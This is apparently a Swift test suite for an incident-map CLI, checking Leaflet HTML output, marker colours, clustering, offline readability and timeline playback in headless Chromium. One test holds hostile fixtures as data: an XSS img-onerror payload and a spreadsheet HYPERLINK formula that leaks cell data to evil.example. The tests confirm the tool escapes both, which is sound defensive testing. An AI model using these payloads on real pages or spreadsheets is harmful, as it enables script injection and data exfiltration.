import Foundation
import IncidentCore
import IncidentSQLite
import TestSupport
import Testing

/// `incidents map` (issue 14, point 12): one self-contained HTML file, loaded in headless
/// Chromium with the network refused (the basemap tiles fail): the markers are drawn, coloured
/// by category, over a plain background; hostile feed text stays text.
@Suite("End to end: incidents map in headless Chromium", .serialized)
struct MapCLITests {
    /// Writes the map of `database` with `arguments` and returns the file.
    static func map(_ arguments: [String], database: String = AnalystFixture.database,
                    environment: [String: String] = [:]) async throws -> (URL, ProcessResult) {
        let file = try TestPaths.temporaryDirectory("map").appendingPathComponent("map.html")
        let result = try await run("incidents", ["map", "--database", database, "--output", file.path] + arguments,
                                   environment: environment)
        return (file, result)
    }

    static func attribute(_ name: String, in dom: String) -> String? {
        guard let body = dom.range(of: "<body[^>]*>", options: .regularExpression).map({ String(dom[$0]) }),
              let value = body.range(of: "\(name)=\"[^\"]*\"", options: .regularExpression) else { return nil }
        return String(body[value].dropFirst(name.count + 2).dropLast())
    }

    @Test("the markers of every incident with a position, coloured by category, show without tiles; legend and title")
    func markers() async throws {
        let (file, result) = try await Self.map(["--tz", "KST"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout.isEmpty)
        let dom = try await HeadlessBrowser.dom(of: file)
        #expect(Self.attribute("data-ready", in: dom) == "true")
        #expect(Self.attribute("data-markers", in: dom) == "3")
        #expect(Self.attribute("data-shapes", in: dom) == "0")
        #expect(Self.attribute("data-pwned", in: dom) == nil)
        #expect(dom.contains("<title>Incidents</title>"))
        #expect(dom.contains("<p id=\"summary\">3 incidents on the map</p>"))
        // The tiles were asked for (and failed: no network); the markers are SVG circles.
        #expect(dom.contains("src=\"https://tile.openstreetmap.org/"))
        #expect(dom.components(separatedBy: "class=\"leaflet-interactive\"").count - 1 == 3)
        for legend in ["accident 1", "roadwork 1", "weather 1"] { #expect(dom.contains(legend), "legend \(legend)") }

        let png = file.deletingLastPathComponent().appendingPathComponent("map.png")
        try await HeadlessBrowser.screenshot(of: file, to: png)
        // A marker's fill is about 180 pixels of its colour; the legend's swatch about 80. The
        // accident and the weather incidents have ended: their markers are hollow (a faint fill),
        // so their colour shows in the legend alone, and the legend counts them as ended.
        let counts = try await PNGColors.count(in: png, colors: ["d62728", "e6ab02", "1f77b4", "e8ecef"])
        #expect((counts["e6ab02"] ?? 0) >= 150, "roadwork (active) marker pixels: \(counts)")
        for (category, color) in [("accident", "d62728"), ("weather", "1f77b4")] {
            #expect((60..<150).contains(counts[color] ?? 0), "\(category) (ended) marker pixels: \(counts)")
        }
        #expect(Self.attribute("data-not-active", in: dom) == "ended 2")
        #expect(dom.contains("ended 2"), "the legend counts the ended markers")
        #expect((counts["e8ecef"] ?? 0) > 300_000, "the plain background shows where the tiles failed: \(counts)")
    }

    @Test("the page is self-contained: no external script, style or image, only the tile URL")
    func selfContained() async throws {
        let (file, result) = try await Self.map([])
        #expect(result.status == 0, "\(result.stderr)")
        let html = try String(contentsOf: file, encoding: .utf8)
        #expect(html.hasPrefix("<!DOCTYPE html>"))
        #expect(!html.contains("<script src"))
        #expect(!html.contains("<link"))
        #expect(html.contains("L.markerClusterGroup"))
        // Leaflet itself is inlined (from libjs-leaflet) and the marker cluster plugin too.
        let leaflet = try String(contentsOfFile: "/usr/share/javascript/leaflet/leaflet.min.js", encoding: .utf8)
        #expect(html.contains(leaflet))
    }

    @Test("hostile feed text stays text: the popup shows it literally, no element or script comes from it")
    func hostileText() async throws {
        let (file, result) = try await Self.map([])
        #expect(result.status == 0, "\(result.stderr)")
        let html = try String(contentsOf: file, encoding: .utf8)
        #expect(!html.contains("</script><img"), "the data block escapes < and >")
        let dom = try await HeadlessBrowser.dom(of: file, fragment: "incident-2")
        #expect(Self.attribute("data-ready", in: dom) == "true")
        #expect(Self.attribute("data-pwned", in: dom) == nil)
        #expect(!dom.contains("<img src=\"x\""))
        let popup = try #require(dom.range(of: "(?s)<table class=\"popup\">.*?</table>", options: .regularExpression).map { String(dom[$0]) })
        #expect(popup.contains("<th>location</th><td>-1 km &lt;/script&gt;&lt;img src=x onerror=\"document.body.dataset.pwned='yes'\"&gt; '따옴표'</td>"))
        #expect(popup.contains("<th>description</th><td>=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"클릭\")</td>"))
        #expect(popup.contains("<th>started</th><td>2024-02-29 15:00 UTC</td>"))
    }

    @Test("the filter is the title, in words and HTML-escaped")
    func hostileTitle() async throws {
        let (file, result) = try await Self.map(["--road", "<b>경부</b>", "--active", "--since", "2024-03-01", "--tz", "KST"])
        #expect(result.status == 0, "\(result.stderr)")
        let dom = try await HeadlessBrowser.dom(of: file)
        let title = "Active incidents on &lt;b&gt;경부&lt;/b&gt;, started since 2024-03-01 00:00 (+09:00)"
        #expect(dom.contains("<title>\(title)</title>"), "\(dom.prefix(3000))")
        #expect(dom.contains("<h1>\(title)</h1>"))
        #expect(Self.attribute("data-markers", in: dom) == "0")
    }

    @Test("--tiles none: no basemap at all; many markers are clustered")
    func plainAndClustered() async throws {
        let (file, result) = try await Self.map(["--tiles", "none"], database: QueryCLITests.database)
        #expect(result.status == 0, "\(result.stderr)")
        let dom = try await HeadlessBrowser.dom(of: file)
        #expect(Self.attribute("data-markers", in: dom) == "5")
        #expect(!dom.contains("class=\"leaflet-tile\""))
        #expect(dom.contains("marker-cluster"), "the four markers around Suwon and Seoul are clustered")
        #expect(dom.contains("1 without a position not shown"))
        // A cluster's bubble is grey (#626c75: rgba(84, 94, 104, .85) over its lighter ring on
        // the background), not markercluster's default green (#92d66a blended) or yellow,
        // which roadwork's markers use.
        let png = file.deletingLastPathComponent().appendingPathComponent("clusters.png")
        try await HeadlessBrowser.screenshot(of: file, to: png)
        let counts = try await PNGColors.count(in: png, colors: ["626c75", "92d66a"], tolerance: 6)
        #expect((counts["626c75"] ?? 0) > 40, "a grey cluster bubble: \(counts)")
        #expect(counts["92d66a"] == 0, "no default green bubble: \(counts)")
    }

    /// Issue 20, point 15: offline (no tiles), the page still says where it is: a labelled
    /// graticule, a metric scale, the --near point and its radius; clusters are grey, not a
    /// category's colour.
    @Test("offline: a labelled graticule, a scale, the --near point and radius, neutral clusters")
    func offlineReadable() async throws {
        let (file, result) = try await Self.map(["--tiles", "none", "--near", "37.40,127.05", "--radius", "30km"],
                                                database: QueryCLITests.database)
        #expect(result.status == 0, "\(result.stderr)")
        let dom = try await HeadlessBrowser.dom(of: file)
        #expect(Self.attribute("data-ready", in: dom) == "true")
        #expect(Self.attribute("data-query-circle", in: dom) == "30000", "the radius in meters")
        let lines = Int(Self.attribute("data-graticule", in: dom) ?? "") ?? 0
        #expect((4...30).contains(lines), "graticule lines: \(lines)")
        #expect(dom.contains("°N</div>") && dom.contains("°E</div>"), "labelled in degrees north and east")
        #expect(dom.contains("leaflet-control-scale-line"), "a scale")
        #expect(dom.contains("<h1>Incidents within 30.0 km of 37.4, 127.05</h1>"))
        let png = file.deletingLastPathComponent().appendingPathComponent("offline.png")
        try await HeadlessBrowser.screenshot(of: file, to: png)
        // The query circle's blue (#1a5fb4, a dashed outline of 2 px) and the graticule's grey
        // (#7d8891 at opacity 0.7, its 1 px lines spread over two rows or columns of pixels:
        // #c2c8cd on the background); measured: 860 and 5,000 pixels.
        let counts = try await PNGColors.count(in: png, colors: ["1a5fb4", "c2c8cd"], tolerance: 6)
        #expect((counts["1a5fb4"] ?? 0) > 500, "the query circle is drawn: \(counts)")
        #expect((counts["c2c8cd"] ?? 0) > 2000, "the graticule is drawn: \(counts)")
    }

    @Test("--tiles takes an http(s) template with {z}, {x} and {y}", arguments: ["ftp://tiles.example/{z}/{x}/{y}.png",
                                                                                  "https://tiles.example/tile.png", "tiles"])
    func badTiles(tiles: String) async throws {
        let (file, result) = try await Self.map(["--tiles", tiles])
        #expect(result.status == 64, "\(result.stderr)")
        #expect(result.stderr.contains("--tiles"))
        #expect(!FileManager.default.fileExists(atPath: file.path))
    }

    @Test("without Leaflet's package the error says which to install (exit 66), and no file is written")
    func missingLeaflet() async throws {
        let (file, result) = try await Self.map([], environment: ["INCIDENTS_LEAFLET_DIR": "/nonexistent/leaflet"])
        #expect(result.status == 66)
        #expect(result.stderr.contains("cannot read /nonexistent/leaflet/leaflet.min.js"))
        #expect(result.stderr.contains("apt-get install libjs-leaflet libjs-leaflet.markercluster"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: file.deletingLastPathComponent().path).isEmpty)
    }

    /// Issue 22, point 6: playback. Polls at 01:00 (A, B, D, whose provider ends it at 01:30), 02:00 (A: B
    /// and D cleared) and 03:00 (A, B again, C new): ids A 1, B 2, D 3, C 4.
    static func historyDatabase() throws -> String {
        let path = try TestPaths.temporaryDirectory("map-timeline").appendingPathComponent("incidents.sqlite").path
        func incident(_ id: String, _ latitude: Double, ended: String? = nil) -> Incident {
            Incident(source: "gits", externalID: id, category: .accident, description: "사고 \(id) <b>", road: "경부고속도로",
                     coordinate: Coordinate(latitude: latitude, longitude: 127.0), startedAt: HistoryCLITests.instant("00:00"),
                     endedAt: ended.map(HistoryCLITests.instant))
        }
        let (a, b, c, d) = (incident("A", 37.0), incident("B", 37.1), incident("C", 37.2), incident("D", 37.3, ended: "01:30"))
        for (time, incidents) in [("01:00", [a, b, d]), ("02:00", [a]), ("03:00", [a, b, c])] {
            let store = try SQLiteStore(path: path, clock: .fixed(HistoryCLITests.instant(time)))
            _ = try store.ingest(PollContext(source: "gits", startedAt: HistoryCLITests.instant(time)),
                                 QueryFixture.Producer(incidents: incidents).callAsFunction)
        }
        return path
    }

    @Test("--timeline: moving the slider draws the incidents active at its instant, the ones list --at lists; the data is gzip in base64")
    func timeline() async throws {
        let database = try Self.historyDatabase()
        let (file, result) = try await Self.map(["--timeline", "--tiles", "none", "--tz", "KST"], database: database)
        #expect(result.status == 0, "\(result.stderr)")
        let html = try String(contentsOf: file, encoding: .utf8)
        #expect(html.contains("<script type=\"application/gzip\" id=\"incidents\">"))
        #expect(!html.contains("사고 A"), "the feed's text is compressed, not in the page's text")
        // A user's drag sets the slider's value and fires `input`: so does this script, appended to a copy,
        // once the page has drawn; each position's drawn ids are collected on <body>.
        let positions = ["01:10", "01:40", "02:30", "03:00"]
        let instants = positions.map { HistoryCLITests.instant($0).secondsSince1970 }
        let driver = """
            <script>
            (function wait() {
              if (document.body.dataset.ready !== "true") { setTimeout(wait, 20); return; }
              var slider = document.getElementById("timeline"), seen = ["initial=" + document.body.dataset.drawn];
              [\(instants.map(String.init).joined(separator: ", "))].forEach(function (t) {
                slider.value = String(t);
                slider.dispatchEvent(new Event("input"));
                seen.push(slider.value + "=" + document.body.dataset.drawn);
              });
              document.body.dataset.driven = seen.join(";");
            })();
            </script>
            """
        let driven = file.deletingLastPathComponent().appendingPathComponent("driven.html")
        try html.replacingOccurrences(of: "</body>", with: driver + "\n</body>").write(to: driven, atomically: true, encoding: .utf8)
        let dom = try await HeadlessBrowser.dom(of: driven)
        #expect(Self.attribute("data-error", in: dom) == nil)
        #expect(Self.attribute("data-markers", in: dom) == "4")
        // By hand: at 01:10 A, B and D; at 01:40 D had ended (01:30); at 02:30 B was cleared (02:00); at 03:00
        // B was listed again and C first. The slider starts at the last change, 03:00.
        let expected = [[1, 2, 3], [1, 2], [1], [1, 2, 4]]
        let steps = zip(instants, expected).map { "\($0)=" + $1.map(String.init).joined(separator: " ") }
        #expect(Self.attribute("data-driven", in: dom) == (["initial=1 2 4"] + steps).joined(separator: ";"), "\(dom.suffix(2000))")
        #expect(dom.contains("4 incidents on the map; 3 active at 2024-03-01 12:00 +09:00"))
        // The same sets as `incidents list --at`.
        for (position, ids) in zip(positions, expected) {
            let listed = try await run("incidents", ["list", "--at", "2024-03-01T\(position):00Z", "--format", "json", "--database", database])
            let rows = try #require(try JSONSerialization.jsonObject(with: Data(listed.stdout.utf8)) as? [[String: Any]])
            #expect(rows.compactMap { $0["id"] as? Int }.sorted() == ids, "list --at \(position)")
        }
    }

    @Test("an output file that cannot be written is a clear error (exit 1)")
    func unwritable() async throws {
        let result = try await run("incidents", ["map", "--database", AnalystFixture.database, "--output", "/nonexistent/dir/map.html"])
        #expect(result.status == 1)
        #expect(result.stderr.contains("cannot write /nonexistent/dir/map.html"))
    }
}
